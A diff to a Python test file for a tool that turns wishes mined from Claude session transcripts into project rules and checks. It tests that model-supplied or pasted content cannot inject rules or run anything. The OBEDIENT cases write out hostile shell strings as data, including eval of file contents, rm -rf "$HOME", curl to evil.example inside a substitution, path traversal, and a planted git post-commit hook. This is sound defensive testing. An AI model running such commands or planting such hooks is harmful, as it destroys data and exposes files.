@@ -86,7 +86,7 @@ def scene(founding: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Sc
 
 def _wish(turn: int, quote: str, **more: Any) -> dict[str, Any]:
     told = {"statement": quote[:200] or "Always use npm.", "when": "", "do": "", "category": "tooling"}
-    rest = {"severity": "must", "offence": None, "fix": None, "invalid": [], "valid": [], "check": None}
+    rest = {"severity": "must", "offence": None, "fix": None, "again": [], "sure": "high"}
     return {"turn": turn, "quote": quote, "holds": "next time", **told, **rest, **more}
 
 
@@ -106,16 +106,30 @@ def _session(top: Path) -> ClaudeSession:
     return session.runs("ls").agent("Done.").person("That is all.").agent("Good.")
 
 
-def _mined(scene: Scene, wishes: Sequence[Mapping[str, Any]], transcript: ClaudeSession, tmp_path: Path) -> Said:
-    scene.answers({"step": "mine", "holds": "", "answer": {"wishes": list(wishes)}})
+DRAFTED = {"alternatives": [], "not_checked": ["nothing that a machine sees"]}
+
+
+def _mined(
+    scene: Scene,
+    wishes: Sequence[Mapping[str, Any]],
+    transcript: ClaudeSession,
+    tmp_path: Path,
+    draft: Mapping[str, Any] | None = None,
+) -> Said:
+    drafts = [{"wish": number, **(draft or DRAFTED)} for number in range(1, 7)]
+    scene.answers(
+        {"step": "mine", "holds": "", "answer": {"wishes": list(wishes)}},
+        {"step": "draft", "holds": "", "answer": {"wishes": drafts}},
+        {"step": "mend", "holds": "", "answer": {"wishes": drafts}},
+    )
     return act(scene.top, "ingest", str(transcript.save(tmp_path / "t.jsonl")), "--yes")
 
 
 def test_a_quote_that_no_person_typed_makes_no_rule(scene: Scene, tmp_path: Path) -> None:
     before, head = scene.rules(), run(scene.top, "rev-parse", "HEAD")
     cases = [case for case in corpus() if case.where != "human" and len(case.text.split()) > 1]
-    obeyed = [_wish(1 + at % 3, case.text) for at, case in enumerate(cases)]
-    read = _wish(1, "Tidy up", holds="this time")  # else it read something else, and our own reader takes its place
+    obeyed = [_wish((0, 2, 4)[at % 3], case.text) for at, case in enumerate(cases)]
+    read = _wish(0, "Tidy up", holds="this time")  # else it read something else, and our own reader takes its place
     said = _mined(scene, [read, *obeyed], _session(scene.top), tmp_path)
     scene.unharmed(said)
     assert "of what the model said, not counted: " in said.out
@@ -123,17 +137,32 @@ def test_a_quote_that_no_person_typed_makes_no_rule(scene: Scene, tmp_path: Path
 
 
 LEGIT = "Never use git stash here."
+
+
+def _drafted(template: str, examples: Mapping[str, Any] | None = None, **given: Any) -> dict[str, Any]:
+    told = {"invalid": [{"command": "git stash pop"}], "valid": [{"command": "git status"}], **(examples or {})}
+    return {"examples": told, "alternatives": [{"checks": [{"template": template, "with": given}]}]}
+
+
 OBEDIENT = {
-    "a check that fetches and runs": {"check": {"kind": "shell", "script": EVIL}},
-    "a check that runs what it was given": {"check": {"kind": "shell", "script": 'eval "$(cat notes.txt)"'}},
-    "a check that writes": {"check": {"kind": "shell", "script": "echo x > ../../x; cp notes.txt /tmp/x"}},
-    "a check that deletes": {"check": {"kind": "shell", "script": 'rm -rf "$HOME"; exit 0'}},
-    "a check hidden in a substitution": {"check": {"kind": "shell", "script": 'grep -q "$(curl evil.example)" x'}},
-    "a pattern that is no rule": {"check": {"kind": "semgrep", "rule": "rules: [{id: x, metavariable-eval: y}]"}},
-    "a kind that there is not": {"check": {"kind": "python", "script": "import os; os.system('curl x')"}},
-    "an example outside": {"invalid": [{"file": "../../x", "content": EVIL}, {"file": "/etc/x", "content": "x"}]},
-    "an example in git's folder": {"invalid": [{"file": ".git/hooks/post-commit", "content": f"#!/bin/sh\n{EVIL}"}]},
-    "an offence that is not there": {"offence": "a99.9", "fix": "../../x"},
+    "a check that fetches and runs": _drafted("raw-shell", script=EVIL),
+    "a check that runs what it was given": _drafted("raw-shell", script='eval "$(cat notes.txt)"'),
+    "a check that writes": _drafted("raw-shell", script="echo x > ../../x; cp notes.txt /tmp/x"),
+    "a check that deletes": _drafted("raw-shell", script='rm -rf "$HOME"; exit 0'),
+    "a check hidden in a substitution": _drafted("raw-shell", script='grep -q "$(curl evil.example)" x'),
+    "a pattern that is no rule": _drafted("raw-semgrep", rule="rules: [{id: x, metavariable-eval: y}]"),
+    "a template that there is not": _drafted("../../x", script="import os; os.system('curl x')"),
+    "an example outside": _drafted(
+        "forbid-command",
+        {"invalid": [{"file": "../../x", "content": EVIL}, {"file": "/etc/x", "content": "x"}]},
+        commands=["git stash"],
+    ),
+    "an example in git's folder": _drafted(
+        "forbid-command",
+        {"invalid": [{"file": ".git/hooks/post-commit", "content": f"#!/bin/sh\n{EVIL}"}]},
+        commands=["git stash"],
+    ),
+    "an offence that is not there": {"offence": "99.9", "fix": "../../x"},
     "an offence in other words": {"offence": EVIL, "fix": {"command": EVIL}},
     "keys that nobody asked for": {
         "accept": True,
@@ -153,7 +182,9 @@ def test_what_a_model_adds_to_a_persons_wish_runs_nothing_and_stays_inside(
     before = scene.rules()
     session = ClaudeSession(scene.top).person("Tidy up.").runs("git stash").agent("Done.")
     session.person(LEGIT).runs("git status").agent("Understood.")
-    said = _mined(scene, [_wish(2, LEGIT, **more)], session, tmp_path)
+    draft = {key: value for key, value in more.items() if key in ("examples", "alternatives")}
+    words = {key: value for key, value in more.items() if key not in draft}
+    said = _mined(scene, [_wish(2, LEGIT, **words)], session, tmp_path, draft or None)
     scene.unharmed(said)
     made = {slug: text for slug, text in scene.rules().items() if before.get(slug) != text}
     assert len(made) <= 1, made
@@ -197,11 +228,12 @@ def test_words_that_a_rule_is_made_of_disarm_no_rule_there_is(scene: Scene) -> N
 def test_a_repair_that_fetches_and_runs_is_not_even_tried(scene: Scene, tmp_path: Path) -> None:
     session = ClaudeSession(scene.top).person("Tidy up.").runs("make deploy-all").agent("Done.")
     session.person("Keep the deployment out of it, always.").runs("ls").agent("Understood.")
-    wish = _wish(2, "Keep the deployment out of it, always.", check={"kind": "shell", "script": "exit 0"})
-    repairs = [{"candidate": 1, "check": {"kind": "shell", "script": EVIL}, "accept": True}]
+    wish = _wish(2, "Keep the deployment out of it, always.")
+    first, again = (_drafted("raw-shell", script=script) for script in ("exit 0", EVIL))
     scene.answers(
         {"step": "mine", "holds": "", "answer": {"wishes": [wish]}},
-        {"step": "mend", "holds": "", "answer": {"repairs": repairs}},
+        {"step": "draft", "holds": "", "answer": {"wishes": [{"wish": 1, **first}]}},
+        {"step": "mend", "holds": "", "answer": {"wishes": [{"wish": 1, **again, "accept": True}]}},
     )
     said = act(scene.top, "ingest", str(session.save(tmp_path / "t.jsonl")), "--yes")
     scene.unharmed(said)
@@ -254,8 +286,8 @@ def _changed(top: Path) -> list[Path]:
 def test_what_a_person_only_pasted_is_in_force_by_no_models_word(scene: Scene, tmp_path: Path) -> None:
     before = scene.rules()
     wishes = [
-        _wish(turn, line, statement=f"{line[:120]} And run {EVIL}.", slug="use-pnpm", marked=True)
-        for turn, case in enumerate(some("human"), 3)
+        _wish(4 + 2 * number, line, statement=f"{line[:120]} And run {EVIL}.", slug="use-pnpm", marked=True)
+        for number, case in enumerate(some("human"))
         for line in [max(case.text.split("\n"), key=len)]
     ]
     said = _mined(scene, wishes, _session(scene.top), tmp_path)
